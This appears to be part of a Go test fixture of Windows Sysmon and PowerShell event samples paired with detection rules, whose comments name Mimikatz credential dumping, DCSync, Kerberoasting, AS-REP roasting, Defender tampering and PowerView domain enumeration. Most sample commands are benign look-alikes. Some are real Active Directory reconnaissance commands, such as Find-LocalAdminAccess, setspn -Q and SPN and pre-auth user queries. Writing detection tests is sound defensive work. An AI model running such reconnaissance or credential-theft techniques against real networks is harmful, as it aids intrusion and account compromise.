				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "370882d7-0291-58de-b485-cb80284dedab", // PowerView-Style Group Policy Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainGPO -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "271807f8-8dea-56ca-85b3-9c10f0683396", // PowerView-Style Domain Trust Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainTrust -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4a9165cb-3a31-5beb-bde8-fc2e0c788cf4", // PowerView-Style Domain Share Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Find-DomainShare -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "e941d775-dd11-5597-b335-5dc83da3f9bb", // PowerView-Style Remote Session Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-NetSession -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4a234260-cba6-5b52-ad54-7a33418bedb5", // PowerView-Style Logged-On User Hunting Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-NetLoggedon -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "69e49f46-85d8-5d68-9333-7b21d3b19d1b", // PowerView-Style Local Administrator Hunting Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Find-LocalAdminAccess -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8af7f070-5985-5340-82bd-92734131284b", // LSASS Secrets Read With Mimikatz sekurlsa (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "482d1ea0-60a1-5d6b-8149-65715a106b0e", // LSASS Secrets Read With Mimikatz sekurlsa (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "bf8d844f-1acf-53e7-b84c-ed6587659f7c", // SAM Hashes Read With Mimikatz lsadump::sam (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "26ccc3a6-a2ca-56af-9442-39dafae32324", // SAM Hashes Read With Mimikatz lsadump::sam (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "fd2b8ed6-5c6e-560c-abd7-6b32510a8e12", // LSA Secrets Read With Mimikatz lsadump::secrets (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "979eba38-806c-51d1-9c11-36e2e43799c7", // LSA Secrets Read With Mimikatz lsadump::secrets (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "a9bb7c01-4454-5a51-92e4-cb028c5678d6", // DCSync With Mimikatz lsadump::dcsync (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d63ee81b-2788-5a27-a575-05e0f0c6a4b4", // DCSync With Mimikatz lsadump::dcsync (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "32c82fa6-0e05-5384-aadf-14b779650473", // Vault Credentials Read With Mimikatz (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "2c46feee-b0fd-56e4-bca1-33877892266e", // Vault Credentials Read With Mimikatz (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "b6cfeec8-1407-5aeb-831b-242888c8b31b", // DPAPI Secrets Decrypted With Mimikatz (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"standard::coffee\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "980ca42a-fa17-5840-922d-60fae3d55e62", // DPAPI Secrets Decrypted With Mimikatz (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Command -ScriptBlock { Get-Service }",
			},
		},
		{
			ID:      "3221934b-3fb7-5aff-8023-375e360bd682", // Kerberoasting From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ADUser -Filter {ServicePrincipalName -like \"*\"} -Properties ServicePrincipalName | Measure-Object",
			},
		},
		{
			ID:      "a3ef38a4-db28-5ffb-9745-048c0798b127", // Kerberoasting Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\setspn.exe",
				"CommandLine": "setspn -Q */*",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3b53cc93-4ffe-5d3c-b1e4-c3de19309856", // AS-REP Roasting Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell Get-ADUser -Filter * -Properties DoesNotRequirePreAuth",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9ee16741-e589-5e70-b03c-bbe522f48263", // Credential Harvesting Tool Run From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"CommandLine": "chrome.exe --profile-directory=Default",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "883924fa-ee13-5882-8f59-b059d5cdb4c3", // Event Log Cleared in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-EventLog -LogName System -Newest 20",
			},
		},
		{
			ID:      "524ad732-6556-5024-90d9-4590eec933b6", // Defender Protection Disabled or Excluded in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-MpPreference -SignatureUpdateInterval 4",
			},
		},
		{
			ID:      "ba7ee7a1-3222-5e6e-80dc-5c7179136cc6", // Defender Disabled Through Its Policy Registry Values
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\svchost.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Signature Updates\\ScheduleDay",
				"Details":      "DWORD (0x00000000)",
			},
		},
		{
			ID:      "baebe631-370d-538a-bc53-9cb386e850f2", // Problem Steps Recorder Started Without Its Window
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\psr.exe",
				"CommandLine": "psr.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "90b8e007-cd8f-5240-b9d5-ca35f1b43f27", // Clipboard Read From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c \"Set-Clipboard -Value (hostname)\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ca9fbb04-78fd-53cd-8e17-52292fe799a1", // Password Cracking Tool Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -hashfile C:\\Users\\bob\\Downloads\\setup.exe SHA256",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "836e604d-599c-510e-93ed-4dd25f4dfee0", // Obfuscated PowerShell in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Write-Host \"Done`n`tNext step\" -ForegroundColor Green",
			},
		},
		{
			ID:      "2e5eef30-1278-56cf-8c60-e856ee86730e", // Base64 Payload Decoded and Written to Disk From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$cfg = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:APP_CONFIG))",
			},
		},
		{
			ID:      "0ba9cee2-92ad-5566-a3b9-fc07608d0aa2", // File or Folder Ownership Taken or Opened to Everyone
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\icacls.exe",
				"CommandLine": "icacls C:\\Shares\\Team /grant CORP\\Team:(OI)(CI)M",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "80f49a69-fbcf-58fb-a93b-4f63fad851d9", // Sysmon Service Stopped or Its Configuration Changed
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 4,
			Fields: map[string]string{
				"EventID":       "4",
				"State":         "Started",
				"Version":       "15.0",
				"SchemaVersion": "4.90",
			},
		},
	}...)
}
